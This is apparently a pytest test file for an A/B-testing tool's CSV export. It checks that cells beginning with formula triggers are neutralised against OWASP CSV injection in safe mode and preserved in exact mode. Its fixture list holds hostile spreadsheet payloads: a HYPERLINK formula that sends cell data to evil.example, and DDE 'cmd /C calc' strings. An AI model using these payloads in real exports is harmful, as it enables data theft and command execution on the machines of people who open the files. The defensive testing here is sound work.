"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection), and the exact mode round-trips.

OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): a cell beginning with
``=``, ``+``, ``-``, ``@``, tab (0x09) or carriage return (0x0D) may be evaluated as a formula; the
mitigation is to prefix such a cell with a single quote. Plain numbers (``-5``, ``+1.5e3``) are never
formulas and stay as they are, so negative values remain numbers in the safe mode too.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session

from abcore.dashboard import APP_PATH
from abcore.experiments.lifecycle import create_experiment, start_experiment
from abcore.experiments.records import get_variants
from abcore.experiments.schemas import ExperimentCreate, VariantCreate
from abcore.io.csv_export import ExportError, iter_csv, neutralise_cell, write_csv
from abcore.store.tables import ExperimentEvent, UserAssignment

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "plain",
    "-5",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _store(session: Session) -> int:
    exp = create_experiment(session=session, data=ExperimentCreate(name="=csv", variants=[
        VariantCreate(name="=control", allocation_pct=50), VariantCreate(name="@treat", allocation_pct=50)]))
    start_experiment(session=session, ref=exp.id)
    variants = get_variants(session=session, experiment_id=exp.id)  # type: ignore[arg-type]
    for i, user in enumerate(HOSTILE_IDS):
        variant = variants[i % 2]
        session.add(UserAssignment(user_id=user, experiment_id=exp.id, variant_id=variant.id,
                                   attributes={"country": "=DE"}))
        session.add(ExperimentEvent(experiment_id=exp.id, variant_id=variant.id, user_id=user, event_type="conversion",
                                    metric_name="-revenue", value=-1.5, request_id="+r", properties={}))
    session.commit()
    return int(exp.id)  # type: ignore[arg-type]


def _frame(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"), ("+x", "'+x"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-5", "-5"), ("+1.5e3", "+1.5e3"), ("-", "'-"), ("x=1", "x=1"), ("", ""), ("'=1", "'=1"),
])
def test_neutralise_cell(cell: str, expected: str) -> None:
    # Expected values: the OWASP rule quoted in the module docstring, applied by hand.
    assert neutralise_cell(cell) == expected


def test_safe_is_the_default_and_no_cell_starts_a_formula(engine: Engine, session: Session) -> None:
    exp_id = _store(session)
    for what in ("assignments", "events", "results"):
        text = "".join(iter_csv(engine=engine, experiment=exp_id, what=what))
        frame = _frame(text)
        for column in frame.columns:
            for cell in frame[column]:
                if cell.startswith(TRIGGERS):
                    float(cell)  # only plain numbers may start with + or -
        if what == "assignments":
            assert list(frame["user_id"]) == [neutralise_cell(u) for u in HOSTILE_IDS]
            assert set(frame["experiment_name"]) == {"'=csv"}
            assert set(frame["variant_name"]) == {"'=control", "'@treat"}
        if what == "events":
            assert set(frame["value"]) == {"-1.5"}  # numbers stay numbers
            assert set(frame["metric_name"]) == {"'-revenue"}


def test_exact_mode_round_trips_through_pandas(engine: Engine, session: Session) -> None:
    exp_id = _store(session)
    frame = _frame("".join(iter_csv(engine=engine, experiment=exp_id, what="assignments", mode="exact")))
    assert list(frame["user_id"]) == HOSTILE_IDS
    assert set(frame["variant_name"]) == {"=control", "@treat"}
    events = pd.read_csv(io.StringIO("".join(iter_csv(engine=engine, experiment=exp_id, what="events", mode="exact"))))
    assert list(events["value"]) == [-1.5] * len(HOSTILE_IDS)
    assert set(events["metric_name"]) == {"-revenue"}
    with pytest.raises(ExportError, match="mode"):
        list(iter_csv(engine=engine, experiment=exp_id, what="events", mode="raw"))
    out = io.StringIO()
    write_csv(engine=engine, experiment=exp_id, what="assignments", path=out, mode="exact")
    assert list(_frame(out.getvalue())["user_id"]) == HOSTILE_IDS


def test_cli_export_is_safe_by_default_and_exact_on_request(sqlite_url: str, sqlite_engine: Engine, tmp_path: Path) -> None:
    with Session(sqlite_engine) as session:
        exp_id = _store(session)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    base = [sys.executable, "-m", "abcore", "--database-url", sqlite_url, "export", str(exp_id), "--what", "assignments",
            "--quiet", "-o"]
    for extra, expected in (([], [neutralise_cell(u) for u in HOSTILE_IDS]), (["--exact"], HOSTILE_IDS)):
        target = tmp_path / f"out{len(extra)}.csv"
        done = subprocess.run([*base, str(target), *extra], capture_output=True, text=True, env=env, timeout=120)
        assert done.returncode == 0, done.stderr
        assert list(_frame(target.read_bytes().decode("utf-8"))["user_id"]) == expected


def test_dashboard_downloads_are_safe(sqlite_url: str, sqlite_engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    import streamlit as st
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.testing.v1 import AppTest

    with Session(sqlite_engine) as session:
        exp_id = _store(session)
    monkeypatch.setenv("ABCORE_DATABASE_URL", sqlite_url)
    monkeypatch.delenv("ABCORE_USERS", raising=False)
    st.cache_resource.clear()
    st.cache_data.clear()
    captured: dict[str, Any] = {}
    original = MediaFileManager.add_deferred

    def capture(self: MediaFileManager, data_callable: Any, mimetype: Any, coordinates: str, file_name: Any = None,
                **kwargs: Any) -> str:
        captured[str(file_name)] = data_callable
        return original(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", capture)
    at = AppTest.from_file(str(APP_PATH), default_timeout=60)
    at.run()
    at.switch_page("pages/results.py")
    at.session_state["live_refresh"] = False
    at.query_params["experiment"] = str(exp_id)
    at.run()
    assert not at.exception, at.exception
    build = next(fn for name, fn in captured.items() if name.endswith("_assignments.csv"))
    handle = build()
    try:
        text = handle.read().decode("utf-8")
    finally:
        handle.close()
    assert list(_frame(text)["user_id"]) == [neutralise_cell(u) for u in HOSTILE_IDS]
    st.cache_resource.clear()
    st.cache_data.clear()
